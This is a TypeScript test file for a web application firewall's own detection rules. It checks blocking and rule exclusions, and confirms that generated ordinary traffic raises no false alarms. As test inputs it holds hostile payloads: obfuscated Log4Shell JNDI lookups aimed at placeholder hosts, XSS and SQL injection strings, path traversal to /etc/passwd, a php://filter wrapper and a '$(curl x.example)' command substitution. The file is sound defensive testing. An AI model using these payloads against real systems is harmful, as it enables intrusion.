import { describe, expect, test } from 'vitest';
import { ordinaryRequest } from '../../bench/ordinary-traffic.ts';
import { type GivenRequest, given } from '../../test/support/given.ts';
import { compileProgram } from '../engine/compile.ts';
import { baselineRules, compile, exclusionRules, ownRules, type RuleExclusion } from '../index.ts';

/** What CRS does with the score: one critical rule is enough. */
const scoring = {
  path: 'scoring',
  text: `SecAction "id:1,phase:1,pass,nolog,setvar:tx.critical_anomaly_score=5,setvar:tx.anomaly_score_pl1=0"
SecRule TX:anomaly_score_pl1 "@ge 5" "id:2,phase:2,deny,status:403"`,
};

const compiled = (exclusions: readonly RuleExclusion[] = []) => {
  const { before, after } = exclusionRules(exclusions);
  const { ruleSet, diagnostics } = compile([baselineRules, before, ownRules, scoring, after]);
  expect(diagnostics).toEqual([]);
  return ruleSet!;
};
const ruleSet = compiled();

const judge = (request: GivenRequest) => {
  const { action, matches } = ruleSet.inspect(given.request(request));
  return { action, ids: matches.map(({ id }) => id).filter((id) => id !== 2) };
};
const xml = (body: string): GivenRequest => ({ method: 'POST', headers: { 'Content-Type': 'text/xml' }, body });

describe('rules of our own find what the Core Rule Set has no target for', () => {
  // Written with # for $, which would be a template's.
  test.each([
    '#{jndi:ldap://x.example/a}',
    '#{JNDI:rmi://x}',
    '#{#{lower:j}ndi:ldap://x}',
    '#{#{::-j}#{::-n}#{::-d}#{::-i}:ldap://x}',
    '#{j#{k8s:k5:-ND}i:ldap://x}',
    '%24%7Bjndi:dns://x%7D',
    '#{ jndi:ldap://x}',
  ])('%s in any header, argument, cookie or path', (written) => {
    const value = written.replaceAll('#', '$');
    for (const name of ['User-Agent', 'X-Api-Version', 'Accept-Language', 'Authorization', 'X-Anything'])
      expect(judge({ headers: { [name]: value } })).toEqual({ action: 'block', ids: [9_530_000] });
    expect(judge({ headers: { Cookie: `a=${value.replaceAll(';', '')}` } }).ids).toContain(9_530_000);
    expect(judge({ query: `a=${value.startsWith('%') ? value : encodeURIComponent(value)}` }).ids).toContain(9_530_000);
    expect(judge(xml(`<a b="${value}"/>`)).ids).toContain(9_530_000);
  });

  test.each(['<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', '%3Csvg/onload=alert(1)%3E'])(
    'script in other headers: %s',
    (value) => {
      for (const name of ['X-Forwarded-Host', 'Accept', 'X-Title', 'Origin', 'Via'])
        expect(judge({ headers: { [name]: value } })).toEqual({ action: 'block', ids: [9_530_001] });
    },
  );

  test('SQL in headers that name an address', () => {
    const value = "127.0.0.1' or 1=1-- ";
    for (const name of ['X-Forwarded-For', 'client-ip', 'X-Real-IP'])
      expect(judge({ headers: { [name]: value } })).toEqual({ action: 'block', ids: [9_530_002] });
    expect(judge({ headers: { 'X-Forwarded-For': '192.0.2.1, 198.51.100.2' } }).action).toBe('pass');
  });

  test.each([
    [9_530_010, `1' union select password from users-- `],
    [9_530_011, `&lt;script&gt;alert(1)&lt;/script&gt;`],
    [9_530_012, '../../etc/passwd'],
    [9_530_012, 'x/..%2f..%2fsecret'],
    [9_530_013, 'php://filter/read=convert.base64-encode/resource=x'],
    [9_530_013, '$(curl x.example)'],
  ])('%i in attributes and processing instructions of XML: %s', (id, value) => {
    expect(judge(xml(`<a><b c="${value}"/></a>`))).toEqual({ action: 'block', ids: [id] });
    expect(judge(xml(`<?pi ${value}?><a/>`)).action).toBe('block');
  });

  test('and say what they are: by their tag, how severe, and for CRS the score of its first level', () => {
    const said = compileProgram([ownRules], {}).program!.rules.map(
      ({ id, tags, severity, phase, message, isLogged }) => ({
        ...{ id: id - 9_530_000, tag: tags[0]!.constant, level: tags[1]!.constant },
        ...{ severity, phase, isLogged, says: (message?.constant ?? '').length > 10 },
      }),
    );
    const same = { level: 'paranoia-level/1', severity: 2, phase: 2, isLogged: true, says: true };
    const kinds = { 0: 'rce', 1: 'xss', 2: 'sqli', 10: 'sqli', 11: 'xss', 12: 'lfi', 13: 'rce' };
    expect(said).toEqual(
      Object.entries(kinds).map(([id, kind]) => ({ ...same, id: Number(id), tag: `attack-${kind}` })),
    );
  });

  test('and are left out like any other rule', () => {
    const request = given.request({ headers: { 'X-Title': '<script>alert(1)</script>' } });
    expect(compiled([{ rule_id: 9_530_001 }]).inspect(request).action).toBe('pass');
    expect(compiled([{ rule_id: 9_530_001, target: 'REQUEST_HEADERS:X-Title' }]).inspect(request).action).toBe('pass');
    const ofHost = { rule_id: 9_530_001, target: 'REQUEST_HEADERS:X-Title', host: 'shop.example' };
    expect(compiled([ofHost]).inspect(request).action).toBe('pass');
    expect(compiled([{ ...ofHost, host: 'other.example' }]).inspect(request).action).toBe('block');
  });

  test('and not what ordinary clients, proxies and libraries send', () => {
    const alarms = Array.from({ length: 3_000 }, (_, seed) => ordinaryRequest(seed * 7)).flatMap((request) =>
      ruleSet.inspect(request, { mode: 'detect' }).matches.map(({ id, variable }) => `${id} ${variable}`),
    );
    expect(alarms).toEqual([]);
  });
});
